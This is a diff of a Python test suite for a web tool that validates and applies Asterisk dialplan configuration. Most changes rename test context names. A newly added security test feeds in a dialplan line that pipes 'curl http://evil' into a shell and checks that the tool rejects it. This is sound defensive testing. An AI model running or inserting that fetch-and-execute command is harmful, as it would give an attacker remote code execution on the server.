@@ -26,8 +26,8 @@ GOLDEN = Path(__file__).parent / "golden" / "dialplan"
 HTMX = {"HX-Request": "true"}
 _HEADER = re.compile(r"^\[([^\]]+)\](\(!\))?", re.MULTILINE)
 
-GOOD = "[hotline-custom-test]\nexten => 7000,1,Playback(hello-world)\n same => n,Hangup()\n"
-TEMPLATE_ONLY = "[hotline-custom-tpl](!)\nexten => 7001,1,NoOp()\n"
+GOOD = "[custom-test]\nexten => 7000,1,Playback(hello-world)\n same => n,Hangup()\n"
+TEMPLATE_ONLY = "[custom-tpl](!)\nexten => 7001,1,NoOp()\n"
 TRUNKS = (
     "[carrier-auth]\ntype = auth\nusername = hotline\npassword = topsecret\n\n"
     "[carrier]\ntype = endpoint\noutbound_auth = carrier-auth\n"
@@ -102,7 +102,7 @@ async def test_given_valid_context_when_applied_then_written_reloaded_and_verifi
     result = await DialplanApplier(tmp_path, fake).apply("dialplan", GOOD)
     assert result.status == "applied" and result.error == ""
     assert (tmp_path / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
-    assert fake.commands == ["dialplan reload", "dialplan show hotline-custom-test"]
+    assert fake.commands == ["dialplan reload", "dialplan show custom-test"]
 
 
 async def test_given_context_asterisk_does_not_make_live_then_previous_file_restored(
@@ -113,10 +113,10 @@ async def test_given_context_asterisk_does_not_make_live_then_previous_file_rest
     await applier.apply("dialplan", GOOD)
     result = await applier.apply("dialplan", TEMPLATE_ONLY)
     assert result.status == "rolled_back"
-    assert "hotline-custom-tpl" in result.error
+    assert "custom-tpl" in result.error
     assert (tmp_path / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
     assert fake.commands[-1] == "dialplan reload"  # the rollback reloads the old file
-    assert fake.contexts == {"hotline-custom-test"}
+    assert fake.contexts == {"custom-test"}
 
 
 async def test_given_reload_fails_and_no_previous_file_then_file_removed_again(
@@ -208,7 +208,7 @@ async def test_given_htmx_check_of_valid_text_then_review_partial_with_diff(
     assert response.status_code == 200
     assert ui.last.template == "dialplan/_review.html"
     review = ui.last.context["review"]
-    assert review.check.ok and "+[hotline-custom-test]" in review.diff
+    assert review.check.ok and "+[custom-test]" in review.diff
     assert_golden("review_ok.html", response.text)
     assert asterisk.commands == []  # a check never touches Asterisk
 
@@ -217,7 +217,7 @@ async def test_given_htmx_check_of_broken_text_then_findings_name_the_line(
     ui: UiClient, asterisk: FakeAsterisk
 ) -> None:
     await ui.login("telecom_engineer")
-    text = "[hotline-custom-x]\nexten => 1,1,NoOp(\n"
+    text = "[custom-x]\nexten => 1,1,NoOp(\n"
     response = await ui.post("/dialplan/dialplan/check", {"text": text}, headers=HTMX)
     assert [(e.line, e.code) for e in ui.last.context["review"].check.errors] == [(2, "unbalanced")]
     assert 'data-line="2"' in response.text and "disabled" in response.text
@@ -272,7 +272,7 @@ async def test_given_valid_apply_then_version_applied_file_live_and_audited(
         GOOD,
     )
     assert (asterisk.etc / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
-    assert asterisk.contexts == {"hotline-custom-test"}
+    assert asterisk.contexts == {"custom-test"}
     entry = await AuditEntry.filter(action="apply").first()
     assert entry is not None
     assert entry.before == {"text": ""}
@@ -294,7 +294,7 @@ async def test_given_apply_that_asterisk_does_not_take_then_rolled_back_and_show
     assert response.status_code == 303
     failed = await DialplanVersion.filter(kind="dialplan").first()
     assert failed is not None and failed.result == "rolled_back"
-    assert "hotline-custom-tpl" in failed.error
+    assert "custom-tpl" in failed.error
     assert (asterisk.etc / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
     assert await services.applied_text("dialplan") == GOOD
     page = await ui.get(response.headers["location"])
@@ -377,3 +377,21 @@ async def test_given_someone_applied_since_the_diff_then_409_with_fresh_diff_not
     assert "-exten => 7000" in ui.last.context["review"].diff
     assert await DialplanVersion.all().count() == 1
     assert (asterisk.etc / "hotline-custom.conf").read_text(encoding="utf-8") == GOOD
+
+
+@pytest.mark.security
+async def test_given_system_call_when_applied_from_the_ui_then_422_naming_it_in_both_languages(
+    ui: UiClient, asterisk: FakeAsterisk
+) -> None:
+    await ui.login("telecom_engineer")
+    text = "[custom-x]\nexten => 1,1,Answer()\n same => n,System(curl http://evil | sh)\n"
+    response = await ui.post("/dialplan/dialplan/apply", {"text": text})
+    assert response.status_code == 422
+    assert [(e.line, e.code) for e in ui.last.context["review"].check.errors] == [
+        (3, "application_not_allowed")
+    ]
+    assert "Line 3: the application System is not allowed" in response.text
+    assert asterisk.commands == [] and not (asterisk.etc / "hotline-custom.conf").exists()
+    await ui.post("/language", {"language": "zh-CN", "next": "/dialplan"})
+    response = await ui.post("/dialplan/dialplan/check", {"text": text}, headers=HTMX)
+    assert "第 3 行：自定义拨号计划中不允许使用应用 System" in response.text
